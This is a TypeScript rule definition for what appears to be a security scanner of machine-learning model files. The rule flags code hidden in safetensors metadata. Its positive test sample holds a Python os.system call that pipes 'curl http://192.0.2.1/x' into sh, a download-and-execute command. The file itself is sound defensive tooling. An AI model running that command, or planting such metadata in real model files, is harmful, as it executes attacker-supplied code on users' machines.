// Commands and source where a description belongs.

import { defineRule } from '../../define-rule.ts';

export const holdsCode = defineRule({
  id: 'metadata/holds-code',
  title: 'The metadata of this model holds code',
  category: 'payload',
  severity: 'medium',
  stability: 'stable',
  since: '0.1',
  cwe: [506, 94],
  owasp: ['ML06:2023', 'LLM03:2025'],
  atlas: ['AML.T0010'],
  tags: ['metadata'],
  message: '{format} metadata {key} in {place} holds {what}: {excerpt}',
  why: 'Metadata is shown, logged and parsed, never run. Code in it waits for a tool that evaluates it, or for other code that was told where to look.',
  fix: ['Ask the author what the code is for', 'Remove the entry; the model does not need it'],
  falsePositives: 'Descriptions that quote a command.',
  samples: {
    fires: [
      'bytes(model.safetensors): x\'8700000000000000\' | "{\\"__metadata__\\":{\\"note\\":\\"import os; os.system(\\\\\\"curl http://192.0.2.1/x | sh\\\\\\")\\"},\\"a\\":{\\"dtype\\":\\"F32\\",\\"shape\\":[2],\\"data_offsets\\":[0,8]}}" | zeros 8',
    ],
    silent: [
      'bytes(model.safetensors): x\'8200000000000000\' | "{\\"__metadata__\\":{\\"note\\":\\"A model for images. See https://example.org/model\\"},\\"a\\":{\\"dtype\\":\\"F32\\",\\"shape\\":[2],\\"data_offsets\\":[0,8]}}" | zeros 8',
    ],
  },
});
